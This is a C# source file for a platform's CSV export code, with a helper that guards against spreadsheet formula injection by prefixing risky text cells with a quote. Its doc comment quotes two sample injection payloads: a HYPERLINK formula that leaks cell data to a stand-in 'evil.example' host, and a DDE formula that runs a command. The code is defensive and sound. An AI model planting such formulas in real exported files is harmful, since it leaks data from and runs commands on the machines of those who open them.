using System.Globalization;
using System.Text;

namespace Wenjiu.Platform.Exports;

/// <summary>
/// The one place where every CSV and XLSX the platform writes makes text safe for a spreadsheet. A text cell that
/// begins with <c>=</c>, <c>+</c>, <c>-</c>, <c>@</c>, a tab or a carriage return is read by Excel, LibreOffice and
/// Google Sheets as a formula (<c>=HYPERLINK("http://evil.example/?leak="&amp;A2;"click")</c>, <c>=cmd|' /C calc'!A0</c>);
/// OWASP's rule is to prefix such a cell with a single quote, which every spreadsheet shows as text. Only text is
/// prefixed: a number the platform writes (an amount, a count) is written as a number, so a negative amount stays
/// <c>-12.50</c> in CSV and a numeric cell in XLSX, and a person's own text keeps its meaning with one visible quote.
/// </summary>
public static class SpreadsheetText
{
    /// <summary>The characters that make a spreadsheet read a cell as a formula (OWASP, CSV injection).</summary>
    public static ReadOnlySpan<char> FormulaStarts => "=+-@\t\r";

    public static bool StartsLikeFormula(string? text) => !string.IsNullOrEmpty(text) && FormulaStarts.Contains(text[0]);

    /// <summary>The text as a spreadsheet must receive it: prefixed with <c>'</c> when it would start a formula.</summary>
    public static string Neutralise(string? text) => text is null ? "" : StartsLikeFormula(text) ? "'" + text : text;

    /// <summary>A text field of a CSV line: neutralised, then quoted when it holds a comma, a quote or a line break (RFC 4180).</summary>
    public static string CsvField(string? text)
    {
        var value = Neutralise(text);
        return value.AsSpan().IndexOfAny(",\"\r\n") >= 0 ? "\"" + value.Replace("\"", "\"\"", StringComparison.Ordinal) + "\"" : value;
    }

    /// <summary>A number field of a CSV line: invariant culture, never quoted or prefixed (a minus sign here is a number's).</summary>
    public static string CsvNumber(decimal value, string format = "0.##") => value.ToString(format, CultureInfo.InvariantCulture);

    public static string CsvNumber(long value) => value.ToString(CultureInfo.InvariantCulture);
}

/// <summary>
/// Writes CSV as the platform's exports promise it: UTF-8 with a BOM (so that Excel shows Chinese text right), CRLF line
/// ends, RFC 4180 quoting, and every text field through <see cref="SpreadsheetText.CsvField"/>. A line is built from
/// <see cref="Text"/> and <see cref="Number(decimal, string)"/> fields and ended with <see cref="EndLineAsync"/>.
/// </summary>
public sealed class CsvWriter : IAsyncDisposable
{
    // The writer's buffer holds 64 Ki characters; a line ends with an asynchronous flush once half of it is used, so the
    // buffer never fills in a synchronous Write: a web response refuses synchronous writes (and a long export would 500).
    private const int BufferSize = 1 << 16;
    private const int FlushAfter = BufferSize / 2;
    private readonly StreamWriter writer;
    private bool lineStarted;
    private int buffered;

    public CsvWriter(Stream output)
    {
        writer = new StreamWriter(output, new UTF8Encoding(encoderShouldEmitUTF8Identifier: true), bufferSize: BufferSize, leaveOpen: true);
    }

    public CsvWriter Text(string? value) => Raw(SpreadsheetText.CsvField(value));

    public CsvWriter Number(decimal value, string format = "0.##") => Raw(SpreadsheetText.CsvNumber(value, format));

    public CsvWriter Number(long value) => Raw(SpreadsheetText.CsvNumber(value));

    /// <summary>A whole line of text fields (a header).</summary>
    public Task LineAsync(IEnumerable<string> fields)
    {
        ArgumentNullException.ThrowIfNull(fields);
        foreach (var field in fields)
        {
            Text(field);
        }

        return EndLineAsync();
    }

    public async Task EndLineAsync()
    {
        await writer.WriteAsync("\r\n");
        lineStarted = false;
        if (buffered > FlushAfter)
        {
            await writer.FlushAsync();
            buffered = 0;
        }
    }

    public Task FlushAsync(CancellationToken cancellationToken = default) => writer.FlushAsync(cancellationToken);

    public async ValueTask DisposeAsync()
    {
        await writer.FlushAsync();
        await writer.DisposeAsync();
    }

    private CsvWriter Raw(string field)
    {
        if (lineStarted)
        {
            writer.Write(',');
        }

        writer.Write(field);
        buffered += field.Length + 1;
        lineStarted = true;
        return this;
    }
}
